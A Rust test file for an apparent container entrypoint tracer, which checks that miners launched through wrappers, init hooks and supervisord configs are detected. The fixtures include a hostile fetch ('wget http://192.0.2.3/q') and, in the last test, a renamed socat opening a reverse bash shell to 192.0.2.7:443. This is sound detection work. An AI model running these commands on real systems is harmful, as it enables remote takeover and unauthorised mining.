use super::*;

#[test]
fn the_command_is_found_as_the_kernel_finds_it() {
    let path = Fixture::new()
        .link("usr/local/bin/go", "/opt/x")
        .link("opt/x", "../usr/bin/miner")
        .start(&["go"], &["-v"])
        .follow();
    assert_eq!(lines(&path), ["run go -v"]);
    assert_eq!(reach(&path, "usr/bin/miner"), Some(Reach::Starts));
}

#[test]
fn wrappers_run_their_arguments() {
    for argv in [
        vec!["tini", "--", "nohup", "miner"],
        vec!["dumb-init", "miner"],
        vec!["gosu", "redis", "miner"],
        vec!["su-exec", "redis:redis", "miner"],
        vec!["env", "A=b", "miner"],
        vec!["env", "-S", "nice -n 5 miner"],
        vec!["timeout", "-k", "5", "10", "miner"],
        vec!["nice", "-n", "19", "ionice", "-c", "3", "miner"],
        vec!["setpriv", "--reuid=1", "--clear-groups", "miner"],
        vec!["sudo", "-u", "x", "miner"],
        vec!["busybox", "sh", "-c", "exec miner"],
        vec!["chroot", "/host", "miner"],
        vec!["stdbuf", "-oL", "setsid", "miner"],
        vec!["sh", "-c", "exec \"$0\" \"$@\"", "miner"],
        vec!["su", "-", "x", "-c", "miner"],
        vec!["flock", "/l", "miner"],
    ] {
        let path = Fixture::new().start(&argv, &[]).follow();
        assert_eq!(lines(&path).pop().unwrap(), "run miner", "{argv:?}");
        assert_eq!(reach(&path, "usr/bin/miner"), Some(Reach::Starts), "{argv:?}");
    }
}

#[test]
fn a_redis_like_entry_point_starts_its_server_as_another_user() {
    let script = "#!/bin/sh
set -e
if [ \"${1#-}\" != \"$1\" ] || [ \"${1%.conf}\" != \"$1\" ]; then
	set -- redis-server \"$@\"
fi
if [ \"$1\" = 'redis-server' -a \"$(id -u)\" = '0' ]; then
	find . \\! -user redis -exec chown redis '{}' +
	exec gosu redis \"$0\" \"$@\"
fi
um=\"$(umask)\"
if [ \"$um\" = '0022' ]; then
	umask 0077
fi
exec \"$@\"
";
    let path = Fixture::new()
        .file("usr/local/bin/docker-entrypoint.sh", script, 0o755)
        .start(&["docker-entrypoint.sh"], &["redis-server"])
        .follow();
    let all = lines(&path);
    assert!(
        all.contains(&"run gosu redis /usr/local/bin/docker-entrypoint.sh redis-server".to_owned())
            || all.iter().any(|l| l.starts_with("run gosu redis")),
        "{all:#?}"
    );
    assert!(all.contains(&"run redis-server".to_owned()), "{all:#?}");
    assert_eq!(reach(&path, "usr/bin/redis-server"), Some(Reach::Starts));
    assert!(path.gaps.is_empty(), "{:?}", path.gaps);
}

#[test]
fn a_database_like_entry_point_runs_its_hooks_and_its_server() {
    let script = "#!/usr/bin/env bash
set -Eeo pipefail
is_sourced() {
	[ \"${#FUNCNAME[@]}\" -ge 2 ] && [ \"${FUNCNAME[0]}\" = 'is_sourced' ]
}
process_init_files() {
	local f
	for f; do
		case \"$f\" in
			*.sh)
				if [ -x \"$f\" ]; then
					\"$f\"
				else
					. \"$f\"
				fi
				;;
			*.sql) psql -f \"$f\" ;;
			*) echo \"ignoring $f\" ;;
		esac
	done
}
main() {
	if [ \"${1:0:1}\" = '-' ]; then
		set -- postgres \"$@\"
	fi
	if [ \"$1\" = 'postgres' ]; then
		mkdir -p \"$PGDATA\"
		if [ -z \"$DATABASE_ALREADY_EXISTS\" ]; then
			process_init_files /docker-entrypoint-initdb.d/*
		fi
	fi
	exec \"$@\"
}
if ! is_sourced; then
	main \"$@\"
fi
";
    let path = Fixture::new()
        .file("e.sh", script, 0o755)
        .file("docker-entrypoint-initdb.d/a.sh", "wget http://192.0.2.3/q\n", 0o755)
        .env("PGDATA", "/data")
        .start(&["/e.sh"], &["postgres"])
        .follow();
    let all = lines(&path);
    for wanted in [
        "run mkdir -p /data",
        "run /docker-entrypoint-initdb.d/a.sh",
        "run wget http://192.0.2.3/q",
        "run postgres",
    ] {
        assert!(all.iter().any(|l| l.trim_start_matches("may ") == wanted), "{wanted}: {all:#?}");
    }
    assert!(path.gaps.iter().all(|g| !g.matters), "{:?}", path.gaps);
}

#[test]
fn supervised_programs_are_started() {
    let conf = "[supervisord]\nnodaemon=true\n[program:web]\ncommand=/usr/bin/redis-server --port 1\n[include]\nfiles = /etc/sup.d/*.conf\n";
    let path = Fixture::new()
        .file("etc/supervisord.conf", conf, 0o644)
        .file("etc/sup.d/x.conf", "[program:x]\ncommand=sh -c \"exec miner\"\n", 0o644)
        .start(&["supervisord", "-n"], &[])
        .follow();
    assert_eq!(
        lines(&path),
        ["run supervisord -n", "run /usr/bin/redis-server --port 1", "run sh -c [exec miner]", "run miner"]
    );
    let miner = path.behaviours.last().unwrap();
    assert_eq!(miner.because[0].to_string(), "/etc/sup.d/x.conf:2");
}

#[test]
fn other_languages_are_marked_as_started() {
    let path = Fixture::new()
        .file("app/main.py", "#!/usr/bin/env python3\nprint(1)\n", 0o755)
        .file("app/c.json", "{}", 0o644)
        .start(&["python3", "main.py", "--config=/app/c.json"], &[]);
    let mut path = path;
    path.config.working_dir = "/app".into();
    let path = path.follow();
    assert_eq!(reach(&path, "app/main.py"), Some(Reach::Starts));
    assert_eq!(reach(&path, "app/c.json"), Some(Reach::Starts));
    let path = Fixture::new().file("m.py", "#!/usr/bin/python3\n", 0o755).start(&["/m.py"], &[]).follow();
    assert_eq!(reach(&path, "usr/bin/python3"), Some(Reach::Starts));
}

#[test]
fn content_that_was_not_kept_is_asked_for() {
    let path = Fixture::new()
        .file("e.sh", "#!/bin/sh\na\n", 0o755)
        .start(&["/e.sh"], &[])
        .without_contents()
        .follow();
    assert!(path.missing.iter().any(|m| m.path == "e.sh".into() && m.starts), "{:?}", path.missing);
}

#[test]
fn a_copy_of_a_tool_under_another_name_is_still_the_tool() {
    let path = Fixture::new()
        .file("usr/bin/socat", "\u{7f}ELF\0socat", 0o755)
        .file("opt/x", "\u{7f}ELF\0socat", 0o755)
        .start(&["/opt/x", "exec:'bash -li',pty", "tcp:192.0.2.7:443"], &[])
        .follow();
    assert!(lines(&path).iter().any(|line| line.starts_with("run bash")), "{:?}", lines(&path));
}
